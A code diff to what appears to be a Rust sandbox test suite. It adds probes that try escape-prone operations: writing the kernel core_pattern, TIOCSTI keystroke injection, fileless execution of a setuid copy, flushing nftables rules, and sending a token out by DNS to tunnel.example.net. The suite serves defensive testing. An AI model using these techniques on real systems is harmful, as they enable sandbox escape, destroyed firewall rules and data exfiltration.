@@ -1,8 +1,8 @@
 //! Getting back what the start took away, and using what others have.
 
 use std::{
-    fs::{self, File},
-    io::{self, Read, Seek, SeekFrom},
+    fs::{self, File, OpenOptions},
+    io::{self, Read, Seek, SeekFrom, Write},
 };
 
 use nix::{
@@ -181,6 +181,43 @@ pub fn attempts() -> Vec<Attempt> {
         }),
         hold("a kernel module", |_| module()),
         hold("the kernel's memory", |_| raw_devices()),
+        hold("the program that the kernel runs for a core dump", |_| {
+            OpenOptions::new()
+                .write(true)
+                .open("/proc/sys/kernel/core_pattern")
+                .map(drop)
+        }),
+        hold("a tun device", |_| device("/dev/net/tun")),
+        hold("vhost devices", |_| {
+            device("/dev/vhost-vsock").or_else(|_| device("/dev/vhost-net"))
+        }),
+        hold("a key that IPsec uses (XFRM)", |_| {
+            run("ip", &["xfrm", "policy", "list"])
+        }),
+        privileged("a route by another table and rule", |c| {
+            run("ip", &["route", "add", "203.0.113.0/24", "dev", "lo"])?;
+            run("ip", &["route", "del", "203.0.113.0/24", "dev", "lo"])?;
+            run("nft", &["flush", "ruleset"])?;
+            send_anything(c)
+        }),
+        hold("the reservation of ports", |_| {
+            OpenOptions::new()
+                .write(true)
+                .open("/proc/sys/net/ipv4/ip_local_reserved_ports")
+                .map(drop)
+        })
+        .of_user(),
+        hold("characters typed into a terminal (TIOCSTI)", |_| {
+            // TIOCSTI of one space, to whatever terminal there is.
+            let terminal = File::open("/dev/tty")?;
+            calls::type_into(&terminal)
+        }),
+        rules("a program without a file", |c| {
+            let mut copy = File::from(calls::memory_file()?);
+            copy.write_all(&fs::read(SETUID)?)?;
+            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&copy));
+            run(&path, &["__undo", &serde_json::to_string(c)?]).and_then(|()| send_anything(c))
+        }),
         rules("a key that the kernel resolves by DNS", |c| {
             let name = format!("{}.tunnel.example.net", c.token);
             calls::request_key(c"dns_resolver", &name)
@@ -331,6 +368,14 @@ fn module() -> io::Result<()> {
         Err(error) if error.raw_os_error() == Some(libc::EBADF) => Ok(()),
         other => other.map(drop),
     }
+}
+
+fn device(path: &str) -> io::Result<()> {
+    OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(path)
+        .map(drop)
 }
 
 fn raw_devices() -> io::Result<()> {
